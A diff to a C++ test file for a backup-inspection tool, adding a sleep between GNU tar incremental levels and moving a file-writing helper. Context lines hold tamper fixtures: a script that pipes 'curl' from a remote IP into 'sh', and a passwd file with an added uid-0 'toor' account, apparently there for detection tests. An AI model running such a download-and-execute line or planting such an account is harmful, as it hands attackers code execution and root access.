@@ -4,8 +4,10 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <chrono>
 #include <cstdlib>
 #include <fstream>
+#include <thread>
 
 #include <fmt/format.h>
 #include <gtest/gtest.h>
@@ -21,17 +23,12 @@ namespace {
 namespace fs = std::filesystem;
 using testing::ReadAll;
 using testing::RunIrk;
+using testing::Write;
 
 const std::string kGoodTool = "#!/bin/sh\necho the real tool\n";
 const std::string kEvilTool = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
 const std::string kGoodPasswd = "root:x:0:0::/root:/bin/sh\n";
 const std::string kEvilPasswd = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n";
-
-void Write(const fs::path& file, std::string_view text, mode_t mode = 0644) {
-  fs::create_directories(file.parent_path());
-  std::ofstream(file, std::ios::binary | std::ios::trunc) << text;
-  chmod(file.c_str(), mode);
-}
 
 bool Have(const char* program) {
   return std::system(fmt::format("command -v {} >/dev/null 2>&1", program).c_str()) == 0;
@@ -148,6 +145,9 @@ TEST_F(BackupsCommand, HistoryAcrossGnuIncrementalTarLevels) {
   const fs::path backup = dir_.path() / "tar";
   fs::create_directories(backup);
   for (int n = 1; n <= 7; ++n) {
+    // GNU tar's snapshot file keeps whole seconds: a change in the same
+    // second as the previous level would not count as newer.
+    if (n > 1) std::this_thread::sleep_for(std::chrono::milliseconds(1100));
     Prepare(n);
     // Level 0, then each level against the last: unchanged files are not stored.
     ASSERT_EQ(Sh(fmt::format("tar --listed-incremental='{}/snar' -czf '{}/host-2026-11-0{}.tar.gz' "
